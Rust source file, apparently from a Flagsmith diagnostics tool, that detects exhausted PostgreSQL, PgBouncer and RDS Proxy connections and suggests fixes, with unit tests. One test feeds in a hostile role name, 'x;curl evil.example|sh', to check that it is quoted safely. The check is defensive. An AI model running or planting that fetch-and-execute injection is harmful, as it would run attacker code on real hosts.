//! No database connection is free.

use super::shared::{ConnectionFailure, before_a_migration, explained, holders, probed};
use crate::{causes::prelude::*, postgres::phrases::Phrase};

pub(crate) static CAUSE: Cause = Cause {
    blocks_migration: true,
    is_connection: true,
    comes_and_goes: true,
    explains: consequences::OF_NO_CONNECTION,
    log: &[&LOG],
    check: Some(check),
    ..Cause::critical(Component::Database, include_str!("connections_exhausted.md"))
};

/// Whose connections are used up.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Variant {
    /// Those of the role.
    Role,
    /// Those of the database.
    Database,
    /// Those of the pooler to the server, or it cannot reach the server.
    PoolerWait,
    /// The same of RDS Proxy.
    PoolerBorrow,
    /// Those of Flagsmith's own pool.
    OwnPool,
    /// Those of the pooler to its clients.
    Pooler,
    /// Those of the server.
    Server,
}

static LOG: Rule<Variant> = Rule {
    precedence: 320,
    signatures: &[
        Signature::of_phrase(Variant::Role, Phrase::TooManyForRole),
        Signature::of_phrase(Variant::Database, Phrase::TooManyForDatabase),
        Signature::of_database(Variant::PoolerWait, &["query_wait_timeout"]),
        Signature::of_database(Variant::PoolerBorrow, &["acquire database connection"]),
        Signature::of_database(Variant::OwnPool, &["couldn't get a connection after "]),
        Signature::of_database(
            Variant::Pooler,
            &[
                "no more connections allowed",
                "max client connections",
                "Max client connections",
                "max clients reached",
                "MaxClientsInSessionMode",
                "client_login_timeout",
            ],
        )
        .none(&["server down"]),
        Signature::of_phrase(Variant::Server, Phrase::TooManyClients),
        Signature::of_phrase(Variant::Server, Phrase::SlotsReserved),
        Signature::of(Variant::Server).only_database().class(&["TooManyConnections"]),
    ],
    details,
    explain: |evidence, occurrence, variant| explained(evidence, occurrence, variant, words),
    is_over: None,
};

/// Who has the connections of the server.
const HOLDERS: &str = "See who has them: SELECT usename, application_name, state, count(*) FROM pg_stat_activity \
                       GROUP BY 1, 2, 3 ORDER BY 4 DESC;";

/// How many connections are needed.
const NEEDS: &str = "Flagsmith needs about pods × GUNICORN_WORKERS × GUNICORN_THREADS connections per database for \
                     the API and 2 × threads + workers for each task processor.";

/// Connections that must be free: the migration's own, and one for whoever looks why it hangs.
const NEEDED_TO_MIGRATE: i32 = 2;

fn details(failure: &Failure<'_>, variant: Variant) -> Option<FailureDetails> {
    let mut details = FailureDetails { endpoint: failure.endpoint(), ..FailureDetails::default() };
    match variant {
        Variant::Role => details.role = Some(failure.phrase(Phrase::TooManyForRole)?.to_owned()),
        Variant::Database => details.database = Some(failure.phrase(Phrase::TooManyForDatabase)?.to_owned()),
        _ => {}
    }
    Some(details)
}

fn check(context: &Context<'_>) -> Vec<Draft> {
    let variant = |_, read: Option<Variant>| read.unwrap_or(Variant::Server);
    let mut found = probed(context, Code::DatabaseConnectionsExhausted, &LOG, variant, words);
    found.extend(no_connection_to_migrate(context).map(|found| context.owned(found)));
    for draft in &mut found {
        draft.evidence.extend(holders(context.observation));
    }
    found
}

/// A migration that is due would find no connection.
fn no_connection_to_migrate(context: &Context<'_>) -> Option<Draft> {
    let preflight = before_a_migration(context)?;
    let free = preflight.connections_allowed - preflight.connections_used;
    (free < NEEDED_TO_MIGRATE).then(|| Draft {
        code: Code::DatabaseConnectionsExhausted,
        severity: Severity::Critical,
        component: Component::Database,
        message: "PostgreSQL has no connection left for the migration.".to_owned(),
        // Not the exact number: it moves with each request.
        evidence: vec![format!(
            "database: fewer than {NEEDED_TO_MIGRATE} of {} connections are free",
            preflight.connections_allowed
        )],
        remedy: server_remedy(),
    })
}

fn server_remedy() -> String {
    format!(
        "{HOLDERS} then lower replicas, GUNICORN_WORKERS or GUNICORN_THREADS, raise max_connections, or put PgBouncer \
         between. {NEEDS}"
    )
}

fn words(failed: &ConnectionFailure<'_, Variant>) -> (String, String) {
    let (who, at) = (failed.who, failed.at());
    match failed.variant {
        Variant::Role => (
            format!(
                "{who} gets no database connection: {} has used up its own connection limit.",
                failed.role()
            ),
            format!(
                "ALTER ROLE {} CONNECTION LIMIT -1; (or a number that is enough). {NEEDS}",
                failed.role_in_sql()
            ),
        ),
        Variant::Database => (
            format!(
                "{who} gets no database connection: the {} has reached its own connection limit.",
                failed.database()
            ),
            format!(
                "ALTER DATABASE {} CONNECTION LIMIT -1; (or a number that is enough). {NEEDS}",
                failed.database_in_sql()
            ),
        ),
        Variant::PoolerWait => (
            format!(
                "{who} waited in vain for a database connection from the connection pooler{at}: either all of \
                 its connections to the server are in use, or it cannot reach the server behind it. PgBouncer says \
                 query_wait_timeout in both cases; its own log separates them."
            ),
            format!(
                "On the pooler's admin console: SHOW POOLS; with sv_active at the pool's size raise default_pool_size \
                 or max_db_connections, or run fewer workers; with no server connection at all correct or start the \
                 server that its [databases] section names. {NEEDS}"
            ),
        ),
        Variant::PoolerBorrow => (
            format!(
                "{who} waited in vain for a database connection from the connection pooler{at}: all that it \
                 may open to the server are in use, or the server does not answer it."
            ),
            format!(
                "On RDS Proxy compare the metrics DatabaseConnections and MaxDatabaseConnectionsAllowed: when they meet \
                 raise MaxConnectionsPercent (or max_connections of the instance), or run fewer workers; when they do \
                 not, look at the proxy's log. {NEEDS}"
            ),
        ),
        Variant::OwnPool => (
            format!(
                "{who} waited in vain for a connection from its own connection pool (psycopg_pool): all of them are in \
                 use, or the database does not answer."
            ),
            format!(
                "Raise max_size of the pool, or see what keeps its connections: SELECT pid, state, wait_event_type, \
                 now() - state_change, left(query, 80) FROM pg_stat_activity ORDER BY 4 DESC; {NEEDS}"
            ),
        ),
        Variant::Pooler => (
            format!(
                "{who} gets no database connection from the connection pooler{at}: all of its connections are \
                 in use."
            ),
            format!(
                "Raise the number of clients that it takes (PgBouncer: max_client_conn), or run fewer workers. {NEEDS}"
            ),
        ),
        Variant::Server => (
            format!(
                "{who} gets no database connection: all connections that PostgreSQL{} allows are in use \
                 (max_connections).",
                failed.at()
            ),
            server_remedy(),
        ),
    }
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;
    use crate::causes::{
        database::shared::testing::{HOSTILE, OPERATIONAL, observed, only, read, remedy},
        log::failure::Stage,
    };
    use crate::observe::{
        PodSummary, ProbeFailureKind,
        database::{Connections, Held, Holder},
    };

    #[rstest]
    #[case("FATAL:  sorry, too many clients already", Variant::Server)]
    #[case(
        "FATAL:  remaining connection slots are reserved for roles with the SUPERUSER attribute",
        Variant::Server
    )]
    #[case("FATAL:  too many connections for role \"capped\"", Variant::Role)]
    #[case("FATAL:  zu viele Verbindungen von Rolle »capped«", Variant::Role)]
    #[case("FATAL:  too many connections for database \"fs\"", Variant::Database)]
    #[case("FATAL:  no more connections allowed (max_client_conn)", Variant::Pooler)]
    #[case("FATAL:  query_wait_timeout", Variant::PoolerWait)]
    #[case("FATAL:  Timed-out waiting to acquire database connection", Variant::PoolerBorrow)]
    fn who_is_full(#[case] said: &str, #[case] expected: Variant) {
        let message = format!("connection to server at \"db\", port 5432 failed: {said}");
        assert_eq!(
            read(&LOG, Stage::Serve, OPERATIONAL, &message),
            Some((Code::DatabaseConnectionsExhausted, expected))
        );
    }

    #[rstest]
    #[case("sorry, too many clients already", "at db.prod:5432 allows are in use")]
    #[case("too many connections for role \"app\"", "role \"app\" has used up")]
    #[case("no more connections allowed", "from the connection pooler at db.prod:5432")]
    #[case("in its own words", "at db.prod:5432 allows are in use")]
    fn the_operator_reads_the_servers_words(#[case] said: &str, #[case] message: &str) {
        let seen = only(&observed(ProbeFailureKind::TooManyConnections, said));
        assert!(seen.message.contains(message), "{seen:#?}");
    }

    /// While the server takes no connection nobody can ask it; it was asked a moment before.
    #[rstest]
    #[case::nearly_full(95, &["held 95 of 97 connections: 70 by role \"billing\" in database \"billing\", application \"psql\"; 20 by pod flagsmith-api-abc"])]
    #[case::there_was_room(30, &[])]
    fn who_held_the_connections_is_told(#[case] used: i64, #[case] expected: &[&str]) {
        let mut full = observed(ProbeFailureKind::TooManyConnections, "sorry, too many clients already");
        let holder = |user: &str, application: &str, address: Option<&str>, connections| Holder {
            user: user.to_owned(),
            database: user.to_owned(),
            application: application.to_owned(),
            address: address.map(|address| address.parse().unwrap()),
            connections,
            many_since: None,
        };
        full.pods = vec![PodSummary {
            name: "flagsmith-api-abc".to_owned(),
            component: Some(Component::Api),
            address: "10.0.0.7".parse().ok(),
            ..PodSummary::default()
        }];
        full.queues.held = Some(Held {
            at: full.now,
            connections: Connections { limit: 100, reserved: 3, used },
            holders: vec![holder("billing", "psql", None, 70), holder("flagsmith", "", Some("10.0.0.7"), 20)],
        });
        let evidence = only(&full).evidence;
        assert_eq!(evidence.len(), 1 + expected.len(), "{evidence:?}");
        for words in expected {
            assert!(evidence.iter().any(|line| line.contains(words)), "{evidence:?}");
        }
    }

    #[test]
    fn a_hostile_name_is_quoted() {
        let [injected, _, hidden, _] = HOSTILE;
        let of = |name: &str| {
            let at = "connection to server at \"db\", port 5432 failed: FATAL:  ";
            remedy(OPERATIONAL, &format!("{at}too many connections for role \"{name}\""))
        };
        assert!(of(injected).starts_with("ALTER ROLE \"x;curl evil.example|sh\" CONNECTION LIMIT -1;"));
        assert!(!of(hidden).contains("pwn"), "{}", of(hidden));
    }
}
